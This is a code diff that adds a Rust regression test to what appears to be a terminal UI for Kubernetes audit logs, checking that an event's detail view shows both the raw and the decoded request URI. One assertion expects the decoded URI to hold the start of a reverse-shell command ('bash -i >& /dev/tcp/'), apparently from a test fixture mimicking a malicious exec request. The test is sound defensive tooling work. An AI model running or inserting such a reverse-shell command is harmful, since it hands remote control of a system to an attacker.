@@ -453,3 +453,29 @@ fn regression_denied_requests_read_as_successes_at_80_columns() {
     let s = screen(&wide);
     assert!(s.contains(" CODE "), "{s}");
 }
+
+#[test]
+fn regression_the_detail_view_showed_the_uri_decoded_as_if_logged() {
+    use kubesift::tui::components::detail::DetailLine;
+    let (mut app, mut engine) = start((80, 24));
+    exec_events(&mut app, &mut engine);
+    act(
+        &mut app,
+        &mut engine,
+        &[Action::Bottom, Action::Up, Action::Open],
+    );
+    let event = app.detail.event.as_ref().unwrap().clone();
+    let value = |name: &str| {
+        app.detail.lines().iter().find_map(|l| match l {
+            DetailLine::Field { label, value, .. } if label == name => Some(value.clone()),
+            _ => None,
+        })
+    };
+    assert_eq!(value("uri").as_deref(), Some(event.request_uri.as_str()));
+    let decoded = value("uri decoded").unwrap();
+    assert_ne!(decoded, event.request_uri);
+    assert!(
+        decoded.contains("command=bash -i >& /dev/tcp/"),
+        "{decoded}"
+    );
+}
